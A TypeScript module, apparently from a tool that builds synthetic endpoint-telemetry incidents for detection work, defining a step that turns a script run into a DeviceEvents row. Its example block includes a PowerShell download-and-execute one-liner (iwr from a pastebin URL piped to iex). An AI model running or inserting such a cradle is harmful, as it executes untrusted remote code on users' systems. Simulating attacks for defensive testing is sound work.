import { createHash } from "node:crypto";
import type { StepFile } from "../../format/scenario-file.ts";
import type { Step } from "../../model/incident.ts";
import { actingProcess, commonOf } from "../../resolve/acting.ts";
import {
  deviceEventRow,
  type Clock,
  type Columns,
  type Sighting,
} from "../../generate/event-rows.ts";
import { fill, seen } from "../../generate/step-run.ts";
import { nonEmpty, oneOf, optional } from "../../format/shape.ts";
import { asKey, byKey } from "../common.ts";
import { stepKind, type StepKind } from "../step.ts";

const actions = ["PowerShellCommand", "AmsiScriptContent", "ScriptContent"] as const;

/** A process runs a script. */
export interface ScriptStepFile extends StepFile {
  readonly script: string;
  readonly by: string;
  readonly as?: string;
  readonly action?: (typeof actions)[number];
}

export interface ScriptStep extends Step {
  readonly kind: "script";
  readonly content: string;
  readonly action: (typeof actions)[number];
}

const table = "DeviceEvents";

export const scriptKind: StepKind = stepKind<ScriptStepFile, ScriptStep>({
  name: "script",
  title: "a process runs a script",
  about:
    "Gives a row of `DeviceEvents`, with the text in `AdditionalFields`: as `Command` for `PowerShellCommand`, which names one command and not its arguments, else as `ScriptContent`.",
  example: `- script: Invoke-WebRequest
  by: powershell.exe
- script: $d = iwr https://pastebin.com/raw/{alnum:8}; iex $d
  action: AmsiScriptContent
  by: powershell.exe`,
  keys: {
    script: nonEmpty({ description: "The command, or the text of the script" }),
    by: byKey,
    as: asKey,
    action: optional(
      oneOf(actions, { description: "Who saw it", fallback: "`PowerShellCommand`" }),
    ),
  },
  resolve(step, place, context) {
    const { owner, account, above } = actingProcess(step, place.path, context);
    return {
      kind: "script",
      ...commonOf(step, table, { place, context, above }),
      owner,
      account,
      content: step.script,
      action: step.action ?? "PowerShellCommand",
    };
  },
  rows(step, { time }, run) {
    const content = fill(step.content, "script", { step, run });
    const { action } = step;
    return [{ table, row: scriptRow({ action, content }, seen(step, time, run), run.clock) }];
  },
});

/** The row of a script that a process runs. */
export function scriptRow(
  { action, content }: Pick<ScriptStep, "action" | "content">,
  of: Sighting,
  clock: Clock,
): Columns {
  const row = deviceEventRow(of, action, clock);
  const key = action === "PowerShellCommand" ? "Command" : "ScriptContent";
  row["AdditionalFields"] = JSON.stringify({ [key]: content });
  if (action === "ScriptContent") {
    row["SHA256"] = createHash("sha256").update(content).digest("hex");
  }
  return row;
}
